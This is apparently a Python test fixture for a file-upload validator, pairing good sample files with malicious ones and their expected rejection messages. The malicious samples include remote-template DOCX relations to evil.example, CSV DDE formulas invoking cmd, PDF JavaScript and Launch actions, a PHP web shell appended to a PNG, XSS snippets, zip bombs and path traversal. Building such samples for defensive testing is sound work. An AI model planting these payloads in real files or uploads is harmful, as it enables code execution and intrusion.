"""Files that strangers could send: good ones, and bad ones of every kind we know. All are made here."""

import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image

from tests.factories import make_picture_bytes

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
TYPES = '<Types><Override PartName="/a" ContentType="application/xml"/></Types>'
JPEG = make_picture_bytes((64, 48))
PNG = make_picture_bytes((64, 48), "PNG")
WEBP = make_picture_bytes((64, 48), "WEBP")
PROGRAM = b"MZ\x90\0\x03\0\0\0" + bytes(200)
PAGE = b"<html><script>alert(1)</script></html>"


def archive(parts, **options):
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, **options) as opened:
        for name, text in parts.items():
            opened.writestr(name, text)
    return content.getvalue()


def office(part="word/document.xml", types=TYPES, **more):
    named = {name.replace("__", "/"): text for name, text in more.items()}
    return archive({"[Content_Types].xml": types, part: "<document/>", **named})


def relations(kind, target):
    return (
        f'<Relationships><Relationship Id="a" Type="http://schemas.example.org/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )


def prefixed(relations):
    """The same relations, with their names in a namespace."""
    return (
        relations.replace("<Relationships", '<r:Relationships xmlns:r="urn:r"')
        .replace("</Relationships", "</r:Relationships")
        .replace("<Relationship ", "<r:Relationship ")
    )


def pdf(objects, packed=b""):
    """A PDF with these objects written out, and others in a packed stream of objects."""
    body = b"%PDF-1.7\n1 0 obj<<" + objects + b">>endobj\n"
    if packed:
        squeezed = zlib.compress(b"2 0 <<" + packed + b">>")
        body += b"3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\r\n" % len(squeezed)
        body += squeezed + b"\r\nendstream endobj\n"
    return body + b"trailer<</Root 1 0 R>>\n%%EOF\n"


def box(kind, content=b""):
    return struct.pack(">I", 8 + len(content)) + kind + content


HEIC = box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", bytes(20)) + box(b"mdat", bytes(400))
MOVIE = box(b"ftyp", b"isom\0\0\x02\0isommp41") + box(b"moov", bytes(40)) + box(b"mdat", bytes(400))


def png_that_claims(width, height):
    """A small PNG whose head promises very many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def jpeg_with_comment(comment):
    return JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + JPEG[2:]


def turned(kind):
    """A picture as phones store it: with a second one, or progressive, or with transparency."""
    content = BytesIO()
    if kind == "MPO":
        frame = Image.new("RGB", (64, 48), "#123456")
        frame.save(content, "MPO", save_all=True, append_images=[frame])
    elif kind == "PROGRESSIVE":
        Image.linear_gradient("L").save(content, "JPEG", progressive=True, quality=95)
    else:
        Image.new("RGBA", (64, 48), (1, 2, 3, 4)).save(content, kind)
    return content.getvalue()


GOOD = {
    "plan.pdf": (PDF, "pdf"),
    "PLAN.PDF": (PDF, "pdf"),
    "hyperlinks and packed objects.pdf": (pdf(b"/A<</S/URI/URI(https://ok.example)>>", b"/Type/Page"), "pdf"),
    "letter.docx": (office(), "docx"),
    "links.docx": (office(**{"word/_rels/document.xml.rels": relations("hyperlink", "https://ok.example")}), "docx"),
    "own template.docx": (
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "a",
                "word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:\\Templates\\Report.dotx"),
            }
        ),
        "docx",
    ),
    "roster.xlsx": (office("xl/workbook.xml"), "xlsx"),
    "roster.csv": ("\ufeffname,phone,note\r\nAño,+19165550100,- first\r\n".encode(), "csv"),
    "notes.txt": ("Résumé: = not a formula here\n<b>plain words</b>".encode(), "txt"),
    "photo.jpg": (JPEG, "jpg"),
    "photo.JPEG": (JPEG, "jpg"),
    "phone.jpg": (turned("MPO"), "jpg"),
    "progressive.jpg": (turned("PROGRESSIVE"), "jpg"),
    "with a movie behind it.jpg": (JPEG + MOVIE, "jpg"),
    "saved from the web.jpg": (WEBP, "webp"),
    "screen.png": (PNG, "png"),
    "clear.png": (turned("PNG"), "png"),
    "clear.webp": (turned("WEBP"), "webp"),
    "IMG_0001.HEIC": (HEIC, "heic"),
    "IMG_0002.heif": (HEIC, "heic"),
    "IMG_0003.jpg": (HEIC, "heic"),
    # Names in every script
    "培训计划.pdf": (PDF, "pdf"),
    "الخطة.pdf": (PDF, "pdf"),
    "תוכנית.docx": (office(), "docx"),
    "план.jpg": (JPEG, "jpg"),
    "योजना.png": (PNG, "png"),
    "แผน.txt": ("แผน".encode(), "txt"),
    "計画 🗓️.webp": (WEBP, "webp"),
    "O’Neill's plan (final) & more #2 100%.pdf": (PDF, "pdf"),
    "a" * 180 + ".pdf": (PDF, "pdf"),
}

BOMB = archive({"[Content_Types].xml": TYPES, "word/document.xml": bytes(120 * 1024 * 1024)})
CRYPTED = bytearray(office())
CRYPTED[6] |= 1
CRYPTED[CRYPTED.index(b"PK\x01\x02") + 8] |= 1

ONLY = "Only these kinds are taken"
BROKEN = "It is broken or was cut off"
ACTS = "It holds a program, a macro or another file"
TWO = "It holds something else"
NO_PDF = "Its name ends in .pdf, but it is no PDF file"
NO_DOCX = "Its name ends in .docx, but it is no DOCX file"
NO_PICTURE = "It is no picture we know"
BAD = {
    "empty": ("a.pdf", b"", "It is empty"),
    "no ending": ("plan", PDF, ONLY),
    "program": ("setup.exe", PROGRAM, ONLY),
    "program as pdf": ("a.pdf", PROGRAM, NO_PDF),
    "program as word": ("a.docx", PROGRAM, NO_DOCX),
    "program as picture": ("a.jpg", PROGRAM, NO_PICTURE),
    "program as text": ("a.txt", PROGRAM, "It is not text in UTF-8"),
    "program with two endings": ("a.pdf.exe", PROGRAM, ONLY),
    "shell script": ("a.sh", b"#!/bin/sh\n", ONLY),
    "link of Windows": ("a.lnk", b"L\0\0\0", ONLY),
    "page": ("a.html", PAGE, ONLY),
    "page as pdf": ("a.pdf", PAGE, NO_PDF),
    "page before pdf": ("a.pdf", PAGE + PDF, NO_PDF),
    "page as picture": ("a.png", PAGE, NO_PICTURE),
    "drawing": ("a.svg", b"<svg onload='alert(1)'/>", ONLY),
    "drawing as picture": ("a.png", b"<svg onload='alert(1)'/>", NO_PICTURE),
    "moving picture": ("a.gif", b"GIF89a", ONLY),
    "gif as png": ("a.png", make_picture_bytes((64, 48), "GIF"), NO_PICTURE),
    "tiff as jpg": ("a.jpg", make_picture_bytes((64, 48), "TIFF"), NO_PICTURE),
    "movie": ("a.mov", MOVIE, ONLY),
    "movie as heic": ("a.heic", MOVIE, NO_PICTURE),
    "archive": ("a.zip", archive({"a": "a"}), ONLY),
    "archive as word": ("a.docx", archive({"a": "a"}), NO_DOCX),
    "archive as picture": ("a.jpg", archive({"a": "a"}), NO_PICTURE),
    "sheet as word": ("a.docx", office("xl/workbook.xml"), NO_DOCX),
    "old word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "Open it and save it as DOCX or PDF"),
    "old excel": ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "Open it and save it as XLSX or PDF"),
    "old word as new": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "It asks for a password"),
    "word with macros": ("a.docm", office(word__vbaProject_bin="x"), ONLY),
    "macros under a new ending": (
        "a.docx",
        office(types=TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
        ACTS,
    ),
    "macros": (
        "a.docx",
        archive({"[Content_Types].xml": TYPES, "word/document.xml": "", "word/vbaProject.bin": ""}),
        "It holds macros",
    ),
    "macros under another name": (
        "a.xlsx",
        office("xl/workbook.xml", types=TYPES.replace("application/xml", "application/vnd.ms-office.vbaProject")),
        ACTS,
    ),
    "controls": (
        "a.docx",
        office(types=TYPES.replace("application/xml", "application/vnd.ms-office.activeX+xml")),
        ACTS,
    ),
    "object inside": (
        "a.docx",
        archive({"[Content_Types].xml": TYPES, "word/document.xml": "", "word/embeddings/oleObject1.bin": "x"}),
        ACTS,
    ),
    "template from elsewhere": (
        "a.docx",
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "",
                "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm"),
            }
        ),
        ACTS,
    ),
    "template in single quotes": (
        "a.docx",
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "",
                "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm").replace(
                    '"', "'"
                ),
            }
        ),
        ACTS,
    ),
    "template under a prefix": (
        "a.docx",
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "",
                "word/_rels/settings.xml.rels": prefixed(relations("attachedTemplate", "https://evil.example/a.dotm")),
            }
        ),
        ACTS,
    ),
    "template in numbers": (
        "a.docx",
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "",
                "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm").replace(
                    "https", "&#104;ttps"
                ),
            }
        ),
        ACTS,
    ),
    "template in capitals": (
        "a.docx",
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "",
                "word/_rels/settings.xml.RELS": relations("attachedTemplate", "https://evil.example/a.dotm"),
            }
        ),
        ACTS,
    ),
    "template in another encoding": (
        "a.docx",
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "",
                "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm").encode(
                    "utf-16"
                ),
            }
        ),
        BROKEN,
    ),
    "list with entities": (
        "a.docx",
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "",
                "word/_rels/settings.xml.rels": "<!DOCTYPE a>"
                + relations("attachedTemplate", "https://evil.example/a.dotm"),
            }
        ),
        BROKEN,
    ),
    "list that hides its end": (
        "a.docx",
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "",
                "word/_rels/settings.xml.rels": " " * 2**22
                + relations("attachedTemplate", "https://evil.example/a.dotm"),
            }
        ),
        "It unpacks to far more",
    ),
    "many long lists": (
        "a.docx",
        office(**{f"word/_rels/{number}.rels": "<a>" + "<b/>" * 100_000 + "</a>" for number in range(6)}),
        "It unpacks to far more",
    ),
    "action in what a comment calls a stream": (
        "a.pdf",
        PDF.replace(b"trailer", b"%stream\n5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%endstream\ntrailer"),
        ACTS,
    ),
    "formula after an old line break": ("a.csv", b"name\r=cmd|' /C calc'!A0", "It holds formulas"),
    "formula of several terms": ("a.csv", b"name\n-2+3+cmd|' /C calc'!A0", "It holds formulas"),
    "template from a share": (
        "a.docx",
        archive(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": "",
                "word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///\\\\evil.example\\a.dotm"),
            }
        ),
        ACTS,
    ),
    "bomb": ("a.docx", BOMB, "It unpacks to far more than its size"),
    "very many parts": (
        "a.docx",
        archive({"[Content_Types].xml": TYPES, "word/document.xml": "", **{f"a/{n}": "" for n in range(2100)}}),
        "It unpacks to far more than its size",
    ),
    "way out of the folder": (
        "a.docx",
        archive({"[Content_Types].xml": TYPES, "word/document.xml": "", "../../evil": "x"}),
        BROKEN,
    ),
    "whole path": (
        "a.docx",
        archive({"[Content_Types].xml": TYPES, "word/document.xml": "", "/etc/passwd": "x"}),
        BROKEN,
    ),
    "locked parts": ("a.docx", bytes(CRYPTED), BROKEN),
    "page before word": ("a.docx", PAGE + office(), NO_DOCX),
    "cut off word": ("a.docx", office()[:80], BROKEN),
    "cut off pdf": ("a.pdf", PDF[:20] + bytes(4000), BROKEN),
    "pdf with a script": ("a.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), ACTS),
    "pdf with a disguised script": ("a.pdf", pdf(b"/OpenAction<</S/J#61vaScript/J#53(a)>>"), ACTS),
    "pdf with a packed script": ("a.pdf", pdf(b"", b"/S/JavaScript/JS(a)"), ACTS),
    "pdf that starts a program": ("a.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), ACTS),
    "pdf with a file inside": ("a.pdf", pdf(b"/Type/EmbeddedFile"), ACTS),
    "pdf and archive": ("a.pdf", PDF + archive({"a": "a"}) + b"\n%%EOF", TWO),
    "picture and archive": ("a.jpg", JPEG + archive({"evil.class": "a"}), TWO),
    "picture and page": ("a.jpg", jpeg_with_comment(b"*/=1;</style><script>alert(1)</script>"), TWO),
    "picture and program": ("a.png", PNG + b"<?php system($_GET['c']); ?>", TWO),
    "cut off jpg": ("a.jpg", JPEG[:-40], BROKEN),
    "cut off png": ("a.png", PNG[:-30], BROKEN),
    "cut off webp": ("a.webp", WEBP[:-30], BROKEN),
    "cut off heic": ("a.heic", HEIC[:-30], BROKEN),
    "heic of a head alone": ("a.heic", HEIC[:24], BROKEN),
    "picture bomb": ("a.png", png_that_claims(30_000, 30_000), "It has more than 40 million pixels"),
    "wide picture bomb": ("a.png", png_that_claims(2_000_000, 25), "It has more than 40 million pixels"),
    "table with a command": ("a.csv", b"name\n=cmd|' /C calc'!A0\n", "It holds formulas"),
    "table with a formula in the middle": ("a.csv", b'a,"=HYPERLINK(""//evil.example"")"\n', "It holds formulas"),
    "text in another encoding": ("a.txt", "año".encode("latin-1"), "It is not text in UTF-8"),
    "text with a NUL": ("a.txt", b"a\0b", "Its name ends in .txt, but it is no TXT file"),
    "too large": ("a.pdf", PDF + bytes(10 * 1024 * 1024), "It is larger than 10\N{NO-BREAK SPACE}MB"),
    "name as long as a form": ("a" * 3000 + ".exe", PROGRAM, ONLY),
    "name that turns": ("a\u202efdp.exe", PROGRAM, ONLY),
}
